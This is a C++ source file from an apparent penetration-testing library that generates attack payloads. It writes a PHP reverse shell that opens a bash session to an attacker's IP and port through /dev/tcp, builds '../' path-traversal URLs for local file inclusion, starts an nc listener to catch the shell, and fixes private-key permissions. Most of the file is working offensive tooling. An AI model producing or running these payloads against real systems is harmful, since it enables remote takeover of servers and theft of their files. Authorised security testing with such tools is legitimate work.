#include "pentestxx/payloads/payloads.hpp"

#include <regex>

#include "pentestxx/common/error.hpp"

namespace pentestxx::payloads {

namespace fs = std::filesystem;

namespace {

void require_port(int port) {
  if (port < 1 || port > 65535) throw Error(ErrorCode::invalid_argument, "port out of range: " + std::to_string(port));
}

}  // namespace

ReverseShellSpec make_php_reverse_shell(Ipv4 attacker_ip, int port, std::string filename) {
  require_port(port);
  if (!filename.ends_with(".php")) filename += ".php";
  ReverseShellSpec spec;
  spec.attacker_ip = attacker_ip;
  spec.port = port;
  spec.filename = std::move(filename);
  spec.body = "<?php exec(\"/bin/bash -c 'bash -i >& /dev/tcp/" + attacker_ip.to_string() + "/" +
              std::to_string(port) + " 0>&1'\"); ?>";
  return spec;
}

std::optional<ShellEndpoint> parse_reverse_shell(std::string_view body) {
  static const std::regex re(R"(/dev/tcp/(\d{1,3}(?:\.\d{1,3}){3})/(\d{1,5})\b)");
  std::match_results<std::string_view::const_iterator> m;
  if (!body.starts_with("<?php") || !std::regex_search(body.begin(), body.end(), m, re)) return std::nullopt;
  auto ip = Ipv4::try_parse(m[1].str());
  int port = std::stoi(m[2].str());
  if (!ip || port < 1 || port > 65535) return std::nullopt;
  return ShellEndpoint{*ip, port};
}

std::string make_lfi_url(const LfiTarget& t) {
  if (t.depth < 1) throw Error(ErrorCode::invalid_argument, "traversal depth must be at least 1");
  if (!t.target_file.starts_with('/')) throw Error(ErrorCode::invalid_argument, "LFI target must be an absolute path");
  std::string url = t.base_url;
  std::string_view param = t.param_path;
  if (url.ends_with('/') && param.starts_with('/')) param.remove_prefix(1);
  url += param;
  for (int i = 0; i < t.depth; ++i) url += "../";
  std::string_view file = t.target_file;
  while (file.starts_with('/')) file.remove_prefix(1);
  url += file;
  return url;
}

toolio::CommandSpec make_listener(int port) {
  require_port(port);
  return toolio::make_command("nc", {"-nvlp", std::to_string(port)}, false);
}

toolio::ShellSessionHandle await_connection(toolio::Listener& listener, std::chrono::milliseconds timeout) {
  return listener.await_connection(timeout);
}

CheckedKey key_permission_contract(const fs::path& key) {
  std::error_code ec;
  auto status = fs::status(key, ec);
  if (ec || !fs::is_regular_file(status)) throw Error(ErrorCode::not_found, "private key not found: " + key.string());
  CheckedKey checked{key, status.permissions(), false};
  constexpr auto wanted = fs::perms::owner_read | fs::perms::owner_write;
  if ((checked.before & fs::perms::mask) != wanted) {
    fs::permissions(key, wanted, fs::perm_options::replace, ec);
    if (ec) throw Error(ErrorCode::io_error, "chmod 600 " + key.string() + ": " + ec.message());
    checked.changed = true;
  }
  return checked;
}

}  // namespace pentestxx::payloads
